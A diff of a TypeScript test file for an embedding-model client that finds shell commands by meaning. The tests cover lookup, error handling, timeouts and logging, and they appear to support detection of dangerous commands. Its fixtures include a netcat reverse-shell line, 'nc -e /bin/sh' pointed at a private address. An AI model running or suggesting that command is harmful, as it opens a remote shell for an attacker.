@@ -1,29 +1,35 @@
 import assert from 'node:assert/strict';
 import { once } from 'node:events';
-import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
 import { createServer, type Server } from 'node:http';
-import { tmpdir } from 'node:os';
-import { join } from 'node:path';
 import { json } from 'node:stream/consumers';
 import { after, before, describe, test } from 'node:test';
 
 import { VedetteError } from '@vedette/core';
 import { z } from 'zod';
 
-import { fuseRankings } from './fuse-rankings.ts';
+import type { Log } from '../../log.ts';
+import type { Embedder } from './embedder.ts';
 import { createHttpEmbedder } from './http-embedder.ts';
-import { createLocalEmbedder } from './local-embedder.ts';
-import { createShapeVectors } from './shape-vectors.ts';
+import { createModel } from './model.ts';
+import {
+  type Commands,
+  createShapeVectors,
+  type Nearest,
+  type ShapeVectors,
+} from './shape-vectors.ts';
 
 /** What a model knows, and words do not. */
 const MEANINGS: Readonly<Record<string, number>> = {
   ...{ nc: 0, '/bin/sh': 0, inverse: 0, terminal: 0, tar: 1, pack: 1, backup: 1, ls: 2, list: 2 },
 };
-const SHAPES = [
-  { id: 'shell', text: 'nc -e /bin/sh 10.0.0.1' },
-  { id: 'archive', text: 'tar czf backup.tgz' },
-  { id: 'listing', text: 'ls -la' },
-];
+const COMMANDS = new Map([
+  ['shell', 'nc -e /bin/sh 10.0.0.1'],
+  ['archive', 'tar czf backup.tgz'],
+  ['listing', 'ls -la'],
+]);
+/** What does not hang answers within this on the slowest machine. */
+const PATIENT_MS = 60_000;
+const IMPATIENT_MS = 100;
 const Request = z.object({ model: z.string(), input: z.array(z.string()) });
 
 type Reply = (
@@ -37,6 +43,29 @@ function vectorOf(text: string): number[] {
     if (meaning !== undefined) vector[meaning] = (vector[meaning] ?? 0) + 1;
   }
   return vector;
+}
+
+interface Asked {
+  readonly clock: { nowMs: number };
+  readonly logged: readonly string[];
+  readonly vectors: ShapeVectors;
+}
+
+function commandsOf(texts: ReadonlyMap<string, string> = COMMANDS): Commands {
+  return { ids: () => texts.keys(), textOf: (id) => texts.get(id) };
+}
+
+function idsOf({ found }: Nearest): string[] | undefined {
+  return found?.map(({ id }) => id);
+}
+
+/** Until there is a vector of each that can have one. */
+async function know(
+  vectors: ShapeVectors,
+  commands: ReadonlyMap<string, string> = COMMANDS,
+): Promise<void> {
+  vectors.follow(commandsOf(commands));
+  await vectors.settled();
 }
 
 const answer: Reply = (input) => ({
@@ -72,61 +101,140 @@ describe('an embedding model', () => {
     server.close();
   });
 
+  const asked = (
+    embedder: Embedder = createHttpEmbedder({ url, model: 'm', key: 'k' }),
+    questionTimeoutMs = PATIENT_MS,
+  ): Asked => {
+    const clock = { nowMs: 0 };
+    const logged: string[] = [];
+    const log: Log = (level, event, facts = {}) => {
+      logged.push(`${level} ${event} ${JSON.stringify(facts)}`);
+    };
+    const nowMs = (): number => clock.nowMs;
+    const model = createModel({ embedder, log, nowMs, questionTimeoutMs });
+    return { clock, logged, vectors: createShapeVectors(model, () => true) };
+  };
+
   test('finds by meaning what has not one of the words', async () => {
     reply = answer;
     keys = [];
-    const vectors = createShapeVectors(createHttpEmbedder({ url, model: 'm', key: 'k' }), Date.now);
-    vectors.follow(SHAPES);
-    await vectors.settled();
+    const { vectors, logged } = asked();
+    await know(vectors);
     const nearest = await vectors.nearest('inverse terminal', 10);
-    assert.equal(nearest?.[0]?.id, 'shell');
-    assert.ok(nearest[0].likeness > 0.9);
+    assert.deepEqual(idsOf(nearest), ['shell']);
     assert.deepEqual(new Set(keys), new Set(['Bearer k']));
-    vectors.follow(SHAPES.slice(1));
-    await vectors.settled();
-    const left = await vectors.nearest('inverse terminal', 10);
-    assert.deepEqual(left?.map(({ id }) => id).toSorted(), ['archive', 'listing']);
+    await know(vectors, new Map([...COMMANDS].slice(1)));
+    assert.deepEqual(idsOf(await vectors.nearest('inverse terminal', 10)), []);
+    assert.deepEqual(logged, []);
   });
 
-  const broken: Readonly<Record<string, Reply>> = {
-    'that refuses': () => ({ status: 500, body: 'no' }),
-    'that answers no JSON': () => ({ body: '<html>' }),
-    'that answers other vectors than were asked for': () => ({ body: '{"data":[]}' }),
-    'that answers vectors of two lengths': (input) => ({
-      body: JSON.stringify({
-        data: input.map((_, index) => ({ index, embedding: Array(index + 1).fill(1) })),
+  const broken: Readonly<Record<string, readonly [Reply, RegExp]>> = {
+    'that refuses': [() => ({ status: 500, body: 'no' }), /it answers with 500/],
+    'that answers no JSON': [() => ({ body: '<html>' }), /not valid JSON/],
+    'that answers no vectors': [() => ({ body: '{"data":[{}]}' }), /no list of vectors/],
+    'that answers other vectors than were asked for': [
+      () => ({ body: '{"data":[]}' }),
+      /other texts/,
+    ],
+    'that answers a vector without a direction': [
+      (input) => ({
+        body: JSON.stringify({ data: input.map((_, index) => ({ index, embedding: [0, 0] })) }),
       }),
-    }),
-    'that answers a vector without a direction': (input) => ({
-      body: JSON.stringify({ data: input.map((_, index) => ({ index, embedding: [0, 0] })) }),
-    }),
-    'that answers without end': () => ({ body: 'x'.repeat(20 * 1024 * 1024) }),
-    'that hangs': () => null,
+      /without a direction/,
+    ],
+    'that answers without end': [() => ({ body: 'x'.repeat(20 * 1024 * 1024) }), /over \d+ bytes/],
   };
-  for (const [what, told] of Object.entries(broken)) {
-    test(`one ${what} is left in peace, and nobody waits for it twice`, async () => {
+  for (const [what, [told, problem]] of Object.entries(broken)) {
+    test(`one ${what} is left in peace, which is logged once`, async () => {
       reply = told;
-      let nowMs = 0;
-      const vectors = createShapeVectors(createHttpEmbedder({ url, model: 'm' }), () => nowMs);
-      const isOfMany = what.includes('two lengths');
-      if (isOfMany) {
-        vectors.follow(SHAPES);
-        await vectors.settled();
-      }
-      assert.equal(await vectors.nearest('a question', 5), null);
+      const { clock, logged, vectors } = asked();
+      const failed = await vectors.nearest('a question', 5);
+      assert.ok(failed.found === null);
+      assert.match(failed.problem, problem);
       reply = answer;
-      assert.equal(await vectors.nearest('a question', 5), null, 'for a minute');
-      nowMs += 61_000;
-      vectors.follow(SHAPES);
-      await vectors.settled();
-      assert.equal((await vectors.nearest('pack a backup', 5))?.[0]?.id, 'archive');
+      assert.deepEqual(await vectors.nearest('a question', 5), failed, 'for a minute');
+      assert.equal(logged.length, 1);
+      assert.match(logged[0] ?? '', /^warn embedding-model-paused .*"cause":.*"hint":/);
+      clock.nowMs += 61_000;
+      await know(vectors);
+      assert.deepEqual(idsOf(await vectors.nearest('pack a backup', 5)), ['archive']);
+      assert.match(logged.slice(1).join(), /^info embedding-model-works [^,]*,[^,]*$/);
     });
   }
 
+  test('that hangs is not waited for', async () => {
+    reply = () => null;
+    const { vectors } = asked(createHttpEmbedder({ url, model: 'm' }), IMPATIENT_MS);
+    const failed = await vectors.nearest('a question', 5);
+    assert.deepEqual(failed, { found: null, problem: 'no answer in 0.1 s' });
+  });
+
+  test('that fails many at once is logged once', async () => {
+    reply = () => ({ status: 503, body: '' });
+    const { vectors, logged } = asked();
+    const ask = (): Promise<Nearest> => vectors.nearest('a question', 5);
+    const failed = await Promise.all([ask(), ask(), ask()]);
+    assert.ok(failed.every(({ found }) => found === null));
+    assert.equal(logged.length, 1);
+  });
+
+  test('that cannot be reached is named by how', async () => {
+    const { vectors } = asked(createHttpEmbedder({ url: 'http://127.0.0.1:1/v1', model: 'm' }));
+    const failed = await vectors.nearest('a question', 5);
+    assert.ok(failed.found === null);
+    assert.match(failed.problem, /ECONNREFUSED|bad port/);
+  });
+
+  test('that cannot read some commands still reads the others, and questions', async () => {
+    const many = new Map(Array.from({ length: 100 }, (_, at) => [`c${at}`, `list ${at}`]));
+    many.set('c1', 'poison').set('shell', 'nc');
+    reply = (input) => (input.includes('poison') ? { status: 400, body: '' } : answer(input));
+    const { clock, vectors } = asked();
+    await know(vectors, many);
+    const first = await vectors.nearest('inverse terminal', 5);
+    assert.partialDeepStrictEqual(first, { found: [], unseen: 101 });
+    for (let asks = 0; asks < 3; asks += 1) await know(vectors, many);
+    clock.nowMs += 61_000;
+    await know(vectors, many);
+    const second = await vectors.nearest('inverse terminal', 5);
+    assert.partialDeepStrictEqual(second, { unseen: 64, of: 101 });
+    assert.deepEqual(idsOf(second), ['shell']);
+  });
+
+  test('whose vectors change their length is another: what it read is read anew', async () => {
+    reply = answer;
+    const { logged, vectors } = asked();
+    await know(vectors);
+    const longer = (text: string): number[] => [...vectorOf(text), 0];
+    reply = (input) => ({
+      body: JSON.stringify({
+        data: input.map((text, index) => ({ index, embedding: longer(text) })),
+      }),
+    });
+    const changed = await vectors.nearest('inverse terminal', 5);
+    assert.partialDeepStrictEqual(changed, { found: [], unseen: 3 });
+    assert.match(logged.join(), /^warn embedding-model-changed .*"before":3,"now":4[^\]]*$/);
+    await know(vectors);
+    assert.deepEqual(idsOf(await vectors.nearest('inverse terminal', 5)), ['shell']);
+    assert.equal(logged.length, 1);
+  });
+
+  test('that answers vectors of two lengths does not work', async () => {
+    reply = (input) => ({
+      body: JSON.stringify({
+        data: input.map((_, index) => ({ index, embedding: Array(index + 1).fill(1) })),
+      }),
+    });
+    const { logged, vectors } = asked();
+    await know(vectors);
+    assert.match(logged.join(), /"what":"commands".*other texts/);
+  });
+
   test('that does not heed its signal is not waited for', async () => {
     const embed = (): Promise<never> => new Promise(() => {});
-    const vectors = createShapeVectors({ name: 'deaf', embed }, Date.now);
-    assert.equal(await vectors.nearest('a question', 5), null);
+    const { vectors } = asked({ name: 'deaf', embed }, IMPATIENT_MS);
+    const failed = await vectors.nearest('a question', 5);
+    assert.deepEqual(failed, { found: null, problem: 'no answer in 0.1 s' });
   });
 
   test('is not asked where anybody could listen in', () => {
@@ -141,43 +249,4 @@ describe('an embedding model', () => {
     for (const good of ['https://models.example/v1', 'http://[::1]:8080/v1', 'http://127.0.0.1/v1'])
       createHttpEmbedder({ url: good, model: 'm' });
   });
-});
-
-describe('a model in a folder', () => {
-  const folder = mkdtempSync(join(tmpdir(), 'vedette-model-'));
-  after(() => rmSync(folder, { recursive: true, force: true }));
-
-  test('needs its files, and the package that runs it', async () => {
-    await assert.rejects(createLocalEmbedder(folder), /it has no config\.json/);
-    writeFileSync(join(folder, 'config.json'), '{}');
-    const missing = (): Promise<unknown> => Promise.reject(new Error('Cannot find package'));
-    await assert.rejects(createLocalEmbedder(folder, missing), /npm install @huggingface/);
-  });
-
-  test('is run without fetching anything', async () => {
-    writeFileSync(join(folder, 'config.json'), '{}');
-    const env: Record<string, unknown> = {};
-    const pipeline = async () => async (texts: readonly string[]) => ({
-      tolist: () => texts.map(vectorOf),
-    });
-    const embedder = await createLocalEmbedder(folder, async () => ({ pipeline, env }));
-    const [vector] = await embedder.embed(['tar'], AbortSignal.timeout(1_000));
-    assert.equal(vector?.length, 3);
-    assert.equal(env['allowRemoteModels'], false);
-  });
-});
-
-test('two rankings are one: what both find comes first, and none hides what the other found', () => {
-  const hits = ['a', 'b'].map((id) => ({ id, score: 9, why: ['words'] }));
-  const nearest = [
-    { id: 'b', likeness: 0.9 },
-    { id: 'c', likeness: 0.8 },
-    { id: 'd', likeness: 0.1 },
-  ];
-  const fused = fuseRankings(hits, nearest);
-  assert.deepEqual(
-    fused.map(({ id }) => id),
-    ['b', 'a', 'c'],
-  );
-  assert.deepEqual(fused[0]?.why, ['words', 'the model finds it like the question']);
 });
